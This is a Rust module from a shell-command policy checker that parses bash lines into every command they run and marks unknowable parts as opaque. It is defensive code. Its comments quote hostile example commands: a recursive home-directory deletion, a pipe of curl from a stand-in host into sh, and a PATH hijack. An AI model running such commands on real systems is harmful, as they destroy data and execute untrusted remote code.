//! Shell commands, parsed with a real shell parser into every command bash would run.
//!
//! `git status && rm -rf ~` is two commands; `echo $(curl evil.sh | sh)` runs `curl evil.sh` and
//! `sh` too. A policy allows a command line only if it allows every part. Each [`Part`] carries
//! its words decoded the way bash decodes them (quotes, escapes, `$'…'`), its prefix assignments
//! (`PATH=/tmp/evil git status` is not `git status`) and its redirections; a redirection that
//! writes a file is its own `> PATH` part.
//!
//! The principle: a part whose every word is statically known can be allowed by a rule. Anything
//! the normaliser cannot account for (a variable's value, a command's output, arithmetic, a glob,
//! a builtin that evaluates its arguments) makes the part **opaque**: an allow rule never covers it
//! (a person decides at most), while ask and deny rules still match it by every name it could
//! have (as written, by basename, without assignments, and the command a wrapper runs at each
//! place it could start).

use brush_parser::ast::{
    self, Assignment, AssignmentName, AssignmentValue, Command, CommandPrefixOrSuffixItem,
    CompoundCommand, CompoundList, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
};
use brush_parser::word::{self, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, parse_tokens, tokenize_str_with_options};
use serde::{Deserialize, Serialize};

/// Nesting deeper than this is refused rather than followed (a hostile input cannot exhaust the
/// stack).
const MAX_DEPTH: usize = 16;

/// A command line that could not be parsed; the policy never allows such a line without asking.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("cannot parse the shell command: {0}")]
pub struct ShellError(pub String);

/// One command (or file write) a command line runs.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Part {
    /// What an allow rule must match: the assignments, then the words, decoded and joined by single
    /// spaces; `> PATH` for a write redirection.
    pub text: String,
    /// Prefix assignments (`NAME=value`), also at the start of `text`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub assignments: Vec<String>,
    /// Redirections on this command (`> out`, `< in`, `2>&1`), as written after decoding.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub redirects: Vec<String>,
    /// More names only ask and deny rules match: the command by basename, without its
    /// assignments, and every place a wrapped command could start.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub also: Vec<String>,
    /// Why this part's effect cannot be known statically; an allow rule never covers it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub opaque: Option<String>,
}

impl Part {
    fn plain(text: String) -> Part {
        Part {
            text,
            assignments: Vec::new(),
            redirects: Vec::new(),
            also: Vec::new(),
            opaque: None,
        }
    }

    fn opaque(text: String, why: impl Into<String>) -> Part {
        Part {
            opaque: Some(why.into()),
            ..Part::plain(text)
        }
    }
}

/// Every part a command line runs, in the order bash meets them; identical parts once.
pub fn parse(command: &str) -> Result<Vec<Part>, ShellError> {
    let mut w = Walker::default();
    w.source(command, 0)?;
    if w.parts.is_empty() {
        return Err(ShellError("the command is empty".into()));
    }
    let mut seen = std::collections::HashSet::new();
    w.parts.retain(|p| seen.insert(p.clone()));
    Ok(w.parts)
}

/// What the policy matches for a command line: its parts, or the whole line as one opaque target
/// when it cannot be parsed.
pub fn targets(command: &str) -> Vec<crate::eval::Target> {
    match parse(command) {
        Ok(parts) => parts.into_iter().map(Into::into).collect(),
        Err(e) => vec![crate::eval::Target::opaque(command.trim(), e.to_string())],
    }
}

/// The parts' texts (what allow rules match), for callers that need only those.
pub fn parts(command: &str) -> Result<Vec<String>, ShellError> {
    Ok(parse(command)?.into_iter().map(|p| p.text).collect())
}

fn options() -> ParserOptions {
    ParserOptions {
        tilde_expansion_at_word_start: false,
        ..ParserOptions::default()
    }
}

/// Where a word stands decides which expansions make it unknowable.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A command's name or argument, an assignment's value, a redirection target: any expansion
    /// makes its value unknown.
    Command,
    /// Data only (a case pattern, a heredoc, a here-string, a `for` list): plain `$x` is only a
    /// value, but forms that evaluate code (`${x@P}`, `${!x}`, subscripts, arithmetic) are not.
    Data,
}

/// A word after decoding: its value, and why it is not statically known (if it is not).
struct Decoded {
    value: String,
    opaque: Option<String>,
}

/// A simple command while its items are read.
#[derive(Default)]
struct Simple {
    assignments: Vec<String>,
    words: Vec<String>,
    redirects: Vec<String>,
    opaque: Option<String>,
    /// Parts for the files its redirections write.
    writes: Vec<Part>,
}

impl Simple {
    /// Keeps the first reason the command is opaque.
    fn note(&mut self, why: Option<String>) {
        if self.opaque.is_none() {
            self.opaque = why;
        }
    }
}

#[derive(Default)]
struct Walker {
    parts: Vec<Part>,
}

impl Walker {
    /// Parses and walks `source`; a parse error is returned.
    fn source(&mut self, source: &str, depth: usize) -> Result<(), ShellError> {
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        let opts = options();
        let tokens = tokenize_str_with_options(source, &opts.tokenizer_options())
            .map_err(|e| ShellError(e.to_string()))?;
        let program = parse_tokens(&tokens, &opts).map_err(|e| ShellError(e.to_string()))?;
        for list in &program.complete_commands {
            self.list(list, depth)?;
        }
        Ok(())
    }

    /// Walks code bash runs from inside a word (`$(…)`, `eval '…'`): one that cannot be parsed
    /// becomes an opaque part instead of failing the whole line.
    fn nested(&mut self, source: &str, depth: usize) -> Result<(), ShellError> {
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        let before = self.parts.len();
        if let Err(e) = self.source(source, depth) {
            self.parts.truncate(before);
            self.parts.push(Part::opaque(
                source.trim().to_owned(),
                format!("code that cannot be parsed: {}", e.0),
            ));
        }
        Ok(())
    }

    fn list(&mut self, list: &CompoundList, depth: usize) -> Result<(), ShellError> {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first, depth)?;
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth)?,
                }
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, pipeline: &Pipeline, depth: usize) -> Result<(), ShellError> {
        for command in &pipeline.seq {
            self.command(command, depth)?;
        }
        Ok(())
    }

    fn command(&mut self, command: &Command, depth: usize) -> Result<(), ShellError> {
        let depth = depth + 1;
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        match command {
            Command::Simple(simple) => self.simple(simple, depth),
            Command::Compound(compound, redirects) => {
                self.compound(compound, depth)?;
                let mut on = Vec::new();
                let mut opaque = None;
                for r in redirects.iter().flat_map(|l| l.0.iter()) {
                    self.redirect(r, &mut on, &mut opaque, depth)?;
                }
                if let Some(why) = opaque {
                    self.parts
                        .push(Part::opaque(compound_name(compound).to_owned(), why));
                }
                Ok(())
            }
            // The body runs when the function is called, and by then under a name the line
            // chose: report it now.
            Command::Function(def) => self.compound(&def.body.0, depth),
            Command::ExtendedTest(test, _) => {
                let text = test.expr.to_string();
                let d = self.word(&text, Place::Data, depth)?;
                let arithmetic = ["-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-v"]
                    .iter()
                    .any(|op| text.split_whitespace().any(|w| w == *op));
                let why = d.opaque.or_else(|| {
                    arithmetic.then(|| "`[[ … ]]` evaluates arithmetic or names".to_owned())
                });
                if let Some(why) = why {
                    self.parts.push(Part::opaque(format!("[[ {text} ]]"), why));
                }
                Ok(())
            }
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand, depth: usize) -> Result<(), ShellError> {
        let mut acc = Simple::default();
        for item in simple.prefix.iter().flat_map(|p| p.0.iter()) {
            self.item(item, true, &mut acc, depth)?;
        }
        if let Some(name) = &simple.word_or_name {
            let d = self.word(&name.value, Place::Command, depth)?;
            acc.note(d.opaque);
            acc.words.push(d.value);
        }
        for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, false, &mut acc, depth)?;
        }
        let Simple {
            assignments,
            words,
            redirects,
            mut opaque,
            writes,
        } = acc;
        let words: Vec<String> = words.into_iter().filter(|w| !w.is_empty()).collect();
        if words.is_empty() && assignments.is_empty() {
            self.parts.extend(writes);
            return Ok(());
        }
        if opaque.is_none() {
            opaque = self.evaluated_arguments(&words, depth)?;
        }
        let mut text: Vec<&str> = assignments.iter().map(String::as_str).collect();
        text.extend(words.iter().map(String::as_str));
        let mut part = Part {
            text: text.join(" "),
            assignments: assignments.clone(),
            redirects,
            also: Vec::new(),
            opaque,
        };
        let mut inner = Vec::new();
        unwrap(&words, &assignments, &mut part, &mut inner);
        self.parts.push(part);
        self.parts.extend(inner);
        self.parts.extend(writes);
        Ok(())
    }

    /// One prefix or suffix item of a simple command.
    fn item(
        &mut self,
        item: &CommandPrefixOrSuffixItem,
        prefix: bool,
        acc: &mut Simple,
        depth: usize,
    ) -> Result<(), ShellError> {
        match item {
            CommandPrefixOrSuffixItem::AssignmentWord(a, _) if prefix => {
                let (text, why) = self.assignment(a, depth)?;
                acc.note(why);
                acc.assignments.push(text);
            }
            // After the name, `X=1` is an argument (declaration builtins read it themselves).
            CommandPrefixOrSuffixItem::Word(w)
            | CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                acc.note(d.opaque);
                acc.words.push(d.value);
            }
            CommandPrefixOrSuffixItem::IoRedirect(r) => {
                let before = self.parts.len();
                self.redirect(r, &mut acc.redirects, &mut acc.opaque, depth)?;
                acc.writes.extend(self.parts.drain(before..));
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                self.list(&sub.list, depth)?;
                acc.note(Some("a process substitution's path".into()));
                acc.words.push("<(…)".into());
            }
        }
        Ok(())
    }

    /// Builtins and shells that run their arguments as code: the code is walked; arguments that
    /// a builtin may evaluate (names with subscripts, `$` in a name) make the part opaque.
    fn evaluated_arguments(
        &mut self,
        words: &[String],
        depth: usize,
    ) -> Result<Option<String>, ShellError> {
        let Some((first, args)) = words.split_first() else {
            return Ok(None);
        };
        let name = basename(first);
        match name {
            "eval" => {
                self.nested(&args.join(" "), depth + 1)?;
                Ok(None)
            }
            "trap" => {
                if let Some(code) = args.iter().find(|a| !a.starts_with('-')) {
                    self.nested(code, depth + 1)?;
                }
                Ok(None)
            }
            "bash" | "sh" | "dash" | "zsh" | "ksh" => {
                let code = args
                    .iter()
                    .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
                    .and_then(|i| args.get(i + 1));
                if let Some(code) = code {
                    self.nested(code, depth + 1)?;
                }
                Ok(None)
            }
            "source" | "." => Ok(Some(format!(
                "`{name}` runs the commands in a file the policy cannot read"
            ))),
            "alias" | "enable" | "hash" | "unalias" => Ok(Some(format!(
                "`{name}` changes what later command names run"
            ))),
            "let" => Ok(Some("`let` evaluates arithmetic".into())),
            "mapfile" | "readarray" | "compgen" | "complete" | "bind"
                if args.iter().any(|a| {
                    a.starts_with('-') && !a.starts_with("--") && a.contains(['C', 'F', 'x'])
                }) =>
            {
                Ok(Some(format!(
                    "`{name}` runs a callback given as an argument"
                )))
            }
            _ if BUILTINS.contains(&name) => Ok(args
                .iter()
                .find(|a| a.contains('$') || a.contains('`') || subscripted(a))
                .map(|a| format!("`{name}` may evaluate `{a}` as code or arithmetic"))),
            _ => Ok(None),
        }
    }

    fn assignment(
        &mut self,
        a: &Assignment,
        depth: usize,
    ) -> Result<(String, Option<String>), ShellError> {
        let mut opaque = None;
        let name = match &a.name {
            AssignmentName::VariableName(n) => n.clone(),
            AssignmentName::ArrayElementName(n, index) => {
                let d = self.word(index, Place::Data, depth)?;
                if !index.chars().all(|c| c.is_ascii_digit()) {
                    opaque = Some(
                        d.opaque
                            .unwrap_or_else(|| "an array subscript is evaluated".to_owned()),
                    );
                }
                format!("{n}[{index}]")
            }
        };
        let value = match &a.value {
            AssignmentValue::Scalar(w) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                opaque = opaque.or(d.opaque);
                d.value
            }
            AssignmentValue::Array(items) => {
                let mut values = Vec::new();
                for (key, w) in items {
                    if let Some(k) = key {
                        self.word(&k.value, Place::Data, depth)?;
                        opaque = opaque.or(Some("an array subscript is evaluated".to_owned()));
                    }
                    let d = self.word(&w.value, Place::Command, depth)?;
                    opaque = opaque.or(d.opaque);
                    values.push(d.value);
                }
                format!("({})", values.join(" "))
            }
        };
        let op = if a.append { "+=" } else { "=" };
        Ok((format!("{name}{op}{value}"), opaque))
    }

    fn compound(&mut self, compound: &CompoundCommand, depth: usize) -> Result<(), ShellError> {
        match compound {
            CompoundCommand::BraceGroup(g) => self.list(&g.list, depth),
            CompoundCommand::Subshell(s) => self.list(&s.list, depth),
            CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    let d = self.word(&w.value, Place::Data, depth)?;
                    if let Some(why) = d.opaque {
                        self.parts.push(Part::opaque(
                            format!("for {} in {}", f.variable_name, w.value),
                            why,
                        ));
                    }
                }
                self.list(&f.body.list, depth)
            }
            CompoundCommand::CaseClause(c) => {
                let mut words = vec![&c.value];
                words.extend(c.cases.iter().flat_map(|case| case.patterns.iter()));
                for w in words {
                    let d = self.word(&w.value, Place::Data, depth)?;
                    if let Some(why) = d.opaque {
                        self.parts
                            .push(Part::opaque(format!("case {}", c.value.value), why));
                    }
                }
                for case in &c.cases {
                    if let Some(cmd) = &case.cmd {
                        self.list(cmd, depth)?;
                    }
                }
                Ok(())
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, depth)?;
                self.list(&i.then, depth)?;
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth)?;
                    }
                    self.list(&e.body, depth)?;
                }
                Ok(())
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, depth)?;
                self.list(&w.1.list, depth)
            }
            CompoundCommand::Coprocess(c) => self.command(&c.body, depth),
            CompoundCommand::Arithmetic(a) => {
                self.arithmetic(&a.expr.value, depth)?;
                Ok(())
            }
            CompoundCommand::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&e.value, depth)?;
                }
                self.list(&f.body.list, depth)
            }
        }
    }

    /// `(( … ))`: numbers and operators are harmless; a name is evaluated recursively (its value
    /// can hold `a[$(cmd)]`), so anything else is opaque.
    fn arithmetic(&mut self, expr: &str, depth: usize) -> Result<(), ShellError> {
        for code in hidden_substitutions(expr) {
            self.nested(&code, depth + 1)?;
        }
        if !numeric(expr) {
            self.parts.push(Part::opaque(
                format!("(( {} ))", expr.trim()),
                "arithmetic evaluates names and subscripts",
            ));
        }
        Ok(())
    }

    fn redirect(
        &mut self,
        r: &IoRedirect,
        on: &mut Vec<String>,
        opaque: &mut Option<String>,
        depth: usize,
    ) -> Result<(), ShellError> {
        let mut note = |why: Option<String>| {
            if opaque.is_none() {
                *opaque = why;
            }
        };
        match r {
            IoRedirect::File(fd, kind, target) => {
                let fd = fd.map(|f| f.to_string()).unwrap_or_default();
                match target {
                    IoFileRedirectTarget::Filename(w) | IoFileRedirectTarget::Duplicate(w) => {
                        let d = self.word(&w.value, Place::Command, depth)?;
                        note(d.opaque.clone());
                        let is_fd = d.value == "-"
                            || (!d.value.is_empty()
                                && d.value
                                    .trim_end_matches('-')
                                    .chars()
                                    .all(|c| c.is_ascii_digit()));
                        let duplicate = matches!(
                            kind,
                            IoFileRedirectKind::DuplicateOutput
                                | IoFileRedirectKind::DuplicateInput
                        );
                        // `>&word` with a word that is not a descriptor writes the file (as `&>`).
                        let writes = match kind {
                            IoFileRedirectKind::Write
                            | IoFileRedirectKind::Append
                            | IoFileRedirectKind::Clobber
                            | IoFileRedirectKind::ReadAndWrite => true,
                            IoFileRedirectKind::DuplicateOutput => !is_fd,
                            IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput => false,
                        };
                        on.push(format!("{fd}{kind}{}", d.value));
                        if duplicate && !is_fd && matches!(kind, IoFileRedirectKind::DuplicateInput)
                        {
                            note(Some("`<&` with a word that is not a descriptor".into()));
                        }
                        if writes && d.value != "/dev/null" {
                            let mut p = Part::plain(format!("> {}", d.value));
                            p.opaque = d.opaque.clone();
                            self.parts.push(p);
                        }
                    }
                    IoFileRedirectTarget::Fd(n) => on.push(format!("{fd}{kind}{n}")),
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.list(&sub.list, depth)?;
                        on.push(format!("{fd}{kind}(…)"));
                    }
                }
            }
            IoRedirect::OutputAndError(w, append) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                note(d.opaque.clone());
                on.push(format!("{}{}", if *append { "&>>" } else { "&>" }, d.value));
                if d.value != "/dev/null" {
                    let mut p = Part::plain(format!("> {}", d.value));
                    p.opaque = d.opaque;
                    self.parts.push(p);
                }
            }
            IoRedirect::HereString(_, w) => {
                let d = self.word(&w.value, Place::Data, depth)?;
                note(d.opaque);
                on.push("<<<…".into());
            }
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    let d = self.heredoc(&doc.doc.value, depth)?;
                    note(d);
                }
                on.push("<<…".into());
            }
        }
        Ok(())
    }

    /// A heredoc body expands like the inside of double quotes.
    fn heredoc(&mut self, body: &str, depth: usize) -> Result<Option<String>, ShellError> {
        if !body.contains('$') && !body.contains('`') {
            return Ok(None);
        }
        let quoted = format!("\"{}\"", body.replace('"', "\\\""));
        Ok(self.word(&quoted, Place::Data, depth)?.opaque)
    }

    /// Decodes one word as bash would, walking the commands its substitutions run.
    fn word(&mut self, text: &str, place: Place, depth: usize) -> Result<Decoded, ShellError> {
        let pieces = match word::parse(text, &options()) {
            Ok(p) => p,
            Err(e) => {
                for code in hidden_substitutions(text) {
                    self.nested(&code, depth + 1)?;
                }
                return Ok(Decoded {
                    value: text.to_owned(),
                    opaque: Some(format!("a word that cannot be parsed: {e}")),
                });
            }
        };
        let mut d = Decoded {
            value: String::new(),
            opaque: None,
        };
        self.pieces(text, &pieces, place, false, &mut d, depth)?;
        Ok(d)
    }

    fn pieces(
        &mut self,
        text: &str,
        pieces: &[WordPieceWithSource],
        place: Place,
        quoted: bool,
        d: &mut Decoded,
        depth: usize,
    ) -> Result<(), ShellError> {
        let note = |d: &mut Decoded, why: String| {
            if d.opaque.is_none() {
                d.opaque = Some(why);
            }
        };
        for piece in pieces {
            let source = text.get(piece.start_index..piece.end_index).unwrap_or("");
            match &piece.piece {
                WordPiece::Text(s) => {
                    if let Some(why) = unquoted_expansion(s).filter(|why| {
                        !quoted && (place == Place::Command || why.contains("arithmetic"))
                    }) {
                        note(d, why);
                    }
                    for code in hidden_substitutions(s) {
                        self.nested(&code, depth + 1)?;
                    }
                    d.value.push_str(s);
                }
                WordPiece::SingleQuotedText(s) => d.value.push_str(s),
                WordPiece::AnsiCQuotedText(s) => d.value.push_str(&ansi_c(s)),
                WordPiece::DoubleQuotedSequence(seq)
                | WordPiece::GettextDoubleQuotedSequence(seq) => {
                    self.pieces(text, seq, place, true, d, depth + 1)?;
                }
                WordPiece::TildeExpansion(_) => d.value.push_str(source),
                WordPiece::EscapeSequence(s) => {
                    let mut chars = s.chars();
                    match (chars.next(), chars.next()) {
                        (Some('\\'), Some('\n')) => {}
                        (Some('\\'), Some(c)) if !quoted || "$`\"\\".contains(c) => d.value.push(c),
                        _ => d.value.push_str(s),
                    }
                }
                WordPiece::ParameterExpansion(expr) => {
                    for code in hidden_substitutions(source) {
                        self.nested(&code, depth + 1)?;
                    }
                    let evaluates = !plain_parameter(expr);
                    if evaluates {
                        note(
                            d,
                            format!(
                                "`{source}` may evaluate code (indirection, @P, a subscript or an operator)"
                            ),
                        );
                    } else if place == Place::Command {
                        note(d, format!("the value of `{source}` is not known"));
                    }
                    d.value.push_str(source);
                }
                WordPiece::CommandSubstitution(inner)
                | WordPiece::BackquotedCommandSubstitution(inner) => {
                    self.nested(inner, depth + 1)?;
                    if place == Place::Command {
                        note(d, format!("the output of `{}` is not known", inner.trim()));
                    }
                    d.value.push_str(source);
                }
                WordPiece::ArithmeticExpression(expr) => {
                    for code in hidden_substitutions(&expr.value) {
                        self.nested(&code, depth + 1)?;
                    }
                    if !numeric(&expr.value) || place == Place::Command {
                        note(
                            d,
                            format!("arithmetic `{source}` evaluates names and subscripts"),
                        );
                    }
                    d.value.push_str(source);
                }
            }
        }
        Ok(())
    }
}

/// `$x`, `${x}`, `$1`, `$@`: a value and nothing more.
fn plain_parameter(expr: &ParameterExpr) -> bool {
    match expr {
        ParameterExpr::Parameter {
            parameter,
            indirect: false,
        } => !matches!(parameter, Parameter::NamedWithIndex { .. }),
        _ => false,
    }
}

/// What bash expands in unquoted text: globs, braces, `$[…]`.
fn unquoted_expansion(s: &str) -> Option<String> {
    if s.contains("$[") {
        return Some("arithmetic `$[…]` evaluates names and subscripts".into());
    }
    if s.contains(['*', '?', '[']) {
        return Some(format!("`{s}` is a pattern bash expands to file names"));
    }
    if let Some(open) = s.find('{') {
        let rest = &s[open..];
        if rest.contains('}') && (rest.contains(',') || rest.contains("..")) {
            return Some(format!("`{s}` is a brace expansion"));
        }
    }
    None
}

/// Only digits, operators and spaces: nothing is looked up.
fn numeric(expr: &str) -> bool {
    expr.chars()
        .all(|c| c.is_ascii_digit() || c.is_ascii_whitespace() || "+-*/%()<>=!&|^~?:,".contains(c))
}

/// `name[…]`: a name whose subscript a builtin evaluates.
fn subscripted(arg: &str) -> bool {
    let name_end = arg
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(arg.len());
    name_end > 0 && arg[name_end..].starts_with('[')
}

/// The code inside every `$(…)` and backtick pair found by scanning text that the parser left
/// whole (arithmetic, subscripts, parameter operators). Over-reporting is safe: it only adds
/// parts for ask and deny rules to see.
fn hidden_substitutions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'$' if bytes.get(i + 1) == Some(&b'(') && bytes.get(i + 2) != Some(&b'(') => {
                let start = i + 2;
                let mut level = 1;
                let mut j = start;
                while j < bytes.len() && level > 0 {
                    match bytes[j] {
                        b'(' => level += 1,
                        b')' => level -= 1,
                        _ => {}
                    }
                    j += 1;
                }
                let end = if level == 0 { j - 1 } else { j };
                if let Some(code) = text.get(start..end) {
                    out.push(code.to_owned());
                }
                i = start;
            }
            b'`' => {
                let start = i + 1;
                let end = text[start..].find('`').map_or(text.len(), |e| start + e);
                if let Some(code) = text.get(start..end) {
                    out.push(code.to_owned());
                }
                i = end + 1;
            }
            _ => i += 1,
        }
    }
    out
}

/// Decodes the inside of `$'…'` as bash does.
fn ansi_c(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    let digits = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize| {
        let mut v: u32 = 0;
        let mut n = 0;
        while n < max {
            match chars.peek().and_then(|c| c.to_digit(radix)) {
                Some(d) => {
                    v = v * radix + d;
                    chars.next();
                    n += 1;
                }
                None => break,
            }
        }
        (v, n)
    };
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let ch = match e {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' | '\'' | '"' | '?' => Some(e),
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                let (rest, n) = digits(&mut chars, 8, 2);
                if n > 0 {
                    v = v * 8u32.pow(n as u32) + rest;
                }
                char::from_u32(v & 0xff)
            }
            'x' => {
                let (v, n) = digits(&mut chars, 16, 2);
                if n == 0 { None } else { char::from_u32(v) }
            }
            'u' => {
                let (v, n) = digits(&mut chars, 16, 4);
                if n == 0 { None } else { char::from_u32(v) }
            }
            'U' => {
                let (v, n) = digits(&mut chars, 16, 8);
                if n == 0 { None } else { char::from_u32(v) }
            }
            'c' => chars
                .next()
                .map(|c| char::from_u32(u32::from(c) & 0x1f).unwrap_or(c)),
            _ => None,
        };
        match ch {
            Some(c) => out.push(c),
            None => {
                out.push('\\');
                out.push(e);
            }
        }
    }
    out
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn compound_name(c: &CompoundCommand) -> &'static str {
    match c {
        CompoundCommand::BraceGroup(_) => "{ … }",
        CompoundCommand::Subshell(_) => "( … )",
        CompoundCommand::ForClause(_) | CompoundCommand::ArithmeticForClause(_) => "for …",
        CompoundCommand::CaseClause(_) => "case …",
        CompoundCommand::IfClause(_) => "if …",
        CompoundCommand::WhileClause(_) => "while …",
        CompoundCommand::UntilClause(_) => "until …",
        CompoundCommand::Coprocess(_) => "coproc …",
        CompoundCommand::Arithmetic(_) => "(( … ))",
    }
}

/// Bash builtins: their arguments are read by bash itself, some as names or arithmetic.
const BUILTINS: &[&str] = &[
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "printf",
    "read",
    "unset",
    "test",
    "[",
    "mapfile",
    "readarray",
    "wait",
    "getopts",
    "fc",
    "compgen",
    "complete",
    "bind",
    "shopt",
    "set",
    "command",
    "builtin",
    "exec",
    "caller",
    "dirs",
    "pushd",
    "popd",
    "cd",
    "echo",
    "kill",
    "ulimit",
    "umask",
    "type",
    "history",
    "jobs",
    "disown",
    "suspend",
    "times",
    "return",
    "exit",
    "shift",
    "break",
    "continue",
];

/// How a wrapper reads its own options before the command it runs.
struct Grammar {
    name: &'static str,
    /// Short options that take the next word (or the rest of the same word) as their value.
    with_value: &'static str,
    /// Short options that take no value.
    flags: &'static str,
    /// Long options that take a value (`--user root` or `--user=root`).
    long_with_value: &'static [&'static str],
    /// Long options that take no value.
    long_flags: &'static [&'static str],
    /// Positional words before the command (`timeout 5`).
    positional: usize,
    /// `NAME=value` words before the command are assignments for it (`env`, `sudo`).
    assignments: bool,
    /// The wrapped command also gets arguments the policy cannot see (`xargs`).
    adds_arguments: bool,
}

const GRAMMARS: &[Grammar] = &[
    Grammar {
        name: "sudo",
        with_value: "ugpCDrtTURh",
        flags: "AbEHiklKnPSsVve",
        long_with_value: &[
            "--user",
            "--group",
            "--prompt",
            "--close-from",
            "--chdir",
            "--role",
            "--type",
            "--command-timeout",
            "--other-user",
            "--chroot",
            "--host",
        ],
        long_flags: &[
            "--preserve-env",
            "--login",
            "--shell",
            "--non-interactive",
            "--background",
            "--set-home",
            "--stdin",
            "--askpass",
            "--preserve-groups",
            "--reset-timestamp",
            "--remove-timestamp",
            "--edit",
            "--list",
            "--validate",
            "--version",
            "--help",
        ],
        positional: 0,
        assignments: true,
        adds_arguments: false,
    },
    Grammar {
        name: "doas",
        with_value: "uC",
        flags: "ns",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "env",
        with_value: "uCS",
        flags: "i0v",
        long_with_value: &["--unset", "--chdir", "--split-string"],
        long_flags: &["--ignore-environment", "--null", "--debug"],
        positional: 0,
        assignments: true,
        adds_arguments: false,
    },
    Grammar {
        name: "timeout",
        with_value: "sk",
        flags: "v",
        long_with_value: &["--signal", "--kill-after"],
        long_flags: &["--preserve-status", "--foreground", "--verbose"],
        positional: 1,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "nice",
        with_value: "n",
        flags: "",
        long_with_value: &["--adjustment"],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "ionice",
        with_value: "cnp",
        flags: "t",
        long_with_value: &["--class", "--classdata", "--pid"],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "stdbuf",
        with_value: "ioe",
        flags: "",
        long_with_value: &["--input", "--output", "--error"],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "nohup",
        with_value: "",
        flags: "",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "exec",
        with_value: "a",
        flags: "cl",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "command",
        with_value: "",
        flags: "pvV",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "builtin",
        with_value: "",
        flags: "",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "time",
        with_value: "fo",
        flags: "pav",
        long_with_value: &["--format", "--output"],
        long_flags: &["--portability", "--append", "--verbose"],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "xargs",
        with_value: "adEILnPs",
        flags: "0oprtx",
        long_with_value: &[
            "--arg-file",
            "--delimiter",
            "--max-lines",
            "--max-args",
            "--max-procs",
            "--max-chars",
            "--replace",
            "--eof",
            "--process-slot-var",
        ],
        long_flags: &[
            "--null",
            "--no-run-if-empty",
            "--verbose",
            "--interactive",
            "--exit",
            "--open-tty",
        ],
        positional: 0,
        assignments: false,
        adds_arguments: true,
    },
    Grammar {
        name: "caffeinate",
        with_value: "tw",
        flags: "dimsu",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "chronic",
        with_value: "",
        flags: "ev",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
    Grammar {
        name: "unbuffer",
        with_value: "",
        flags: "p",
        long_with_value: &[],
        long_flags: &[],
        positional: 0,
        assignments: false,
        adds_arguments: false,
    },
];

/// Where the wrapped command starts, reading the wrapper's options by its grammar; `Err` when an
/// option is not in the grammar (the start is then unknown).
